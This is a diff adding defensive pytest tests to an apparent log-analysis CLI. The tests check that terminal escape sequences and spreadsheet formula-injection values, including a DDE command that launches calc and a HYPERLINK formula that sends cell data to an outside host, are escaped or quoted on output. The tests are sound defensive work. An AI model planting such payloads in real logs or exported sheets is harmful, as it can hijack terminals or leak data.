@@ -581,3 +581,45 @@ def test_failure_modes_and_their_diff(judged_db, capsys):
                                                    for r in diff.itertuples()]
     assert [next(v for v in r if v in VERDICTS) for r in table] == list(diff.verdict)
     assert main(["failure-modes", "--db", str(judged_db), "--run", "base", "--candidate", "base"]) == 2
+
+
+def test_control_characters_from_logs_never_reach_the_terminal(tmp_path, capsys):
+    from conftest import rollout, write_jsonl
+
+    # a run, model and tool named with escape sequences that would retitle and clear a terminal
+    evil = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mred\r"
+    records = [rollout(f"r{evil}", f"s{i % 2}", float(i % 2), tools=[f"t{evil}"], model=f"m{evil}") for i in range(4)]
+    db = tmp_path / "evil.duckdb"
+    assert main(["ingest", "--db", str(db), str(write_jsonl(tmp_path / "evil.jsonl", records))]) == 0
+    capsys.readouterr()
+    for argv in (["runs"], ["summary"], ["tokens", "--by", "tool"], ["cost"], ["curate", "--run", f"r{evil}"],
+                 ["failure-modes", "--run", f"r{evil}"], ["summary", "--run", "no such run"]):
+        main([*argv, "--db", str(db)])
+        out, err = capsys.readouterr()
+        for text in (out, err):
+            assert "\x1b" not in text and "\x07" not in text and "\r" not in text, argv
+        assert "\\x1b]0;PWNED\\x07" in out + err, argv  # shown, escaped, never dropped
+
+
+def test_the_sheet_to_label_guards_formulas_and_line_breaks(tmp_path, capsys):
+    import csv
+
+    from conftest import rollout, write_jsonl
+
+    formula_run, formula_id = "=cmd|' /C calc'!A0", '=HYPERLINK("http://e/?"&A1)'
+    records = [rollout(formula_run, "x\r=2+2", 1.0, rollout_id=formula_id)]
+    db = tmp_path / "f.duckdb"
+    assert main(["ingest", "--db", str(db), str(write_jsonl(tmp_path / "f.jsonl", records))]) == 0
+    sheet = tmp_path / "sheet.csv"
+    assert main(["labels", "sample", "--db", str(db), "--run", formula_run, "--out", str(sheet)]) == 0
+    rows = list(csv.DictReader(sheet.open(newline="")))
+    assert len(rows) == 1  # the \r inside the sample id did not start a row
+    assert rows[0]["rollout_id"] == "'" + formula_id and rows[0]["run"] == "'" + formula_run
+    assert rows[0]["sample_id"] == "x\r=2+2"
+    capsys.readouterr()
+    (tmp_path / "dir.csv").mkdir()
+    assert main(["labels", "export", "--db", str(db), "--out", str(tmp_path / "dir.csv")]) == 2
+    assert "is a folder" in capsys.readouterr().err
+    with pytest.raises(SystemExit) as stop:
+        main(["capacity", "--db", str(db), "--run", formula_run, "--steps", "99999999999999999999"])
+    assert stop.value.code == 2 and "from 1 to 1,000,000" in capsys.readouterr().err
